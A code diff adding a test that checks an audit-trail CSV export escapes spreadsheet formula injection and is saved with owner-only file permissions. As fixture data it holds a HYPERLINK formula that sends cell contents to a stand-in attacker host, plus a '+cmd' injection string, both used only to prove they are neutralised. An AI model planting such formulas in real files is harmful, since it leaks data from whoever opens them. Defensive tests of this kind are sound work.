@@ -382,3 +382,28 @@ def test_revision_0003_downgrades_and_upgrades_again(shared_url: str) -> None:
         assert audit_chain.verify(s).ok  # re-chained by the upgrade
         assert set(s.scalars(select(AuditEvent.action))) == {"x"}
     engine.dispose()
+
+
+def test_export_is_formula_safe_and_user_only(
+    engine: Engine, facilities: tuple[int, int], shared_url: str, tmp_path: Path
+) -> None:
+    """#19: a staff name or workstation written like a formula must stay text when the agency opens the
+    trail in Excel (OWASP CSV injection), and the file (names, decisions) is the user's alone."""
+    import os
+    import stat
+
+    hyperlink = '=HYPERLINK("http://evil.example/?d="&A2,"看這裡")'
+    _events(engine, facilities[0], 1, who=hyperlink)
+    _events(engine, facilities[0], 1, who="\t+cmd")
+    out = tmp_path / "audit.csv"
+    old = os.umask(0o022)
+    try:
+        assert main(["--database-url", shared_url, "audit", "export", "-o", str(out)]) == 0
+    finally:
+        os.umask(old)
+    with out.open(encoding="utf-8-sig", newline="") as f:
+        rows = list(csv.DictReader(f))
+    assert [r["staff_username"] for r in rows] == ["'" + hyperlink, "'\t+cmd"]
+    assert [v for r in rows for v in r.values() if v[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
+    if os.name == "posix":
+        assert stat.S_IMODE(out.stat().st_mode) == 0o600
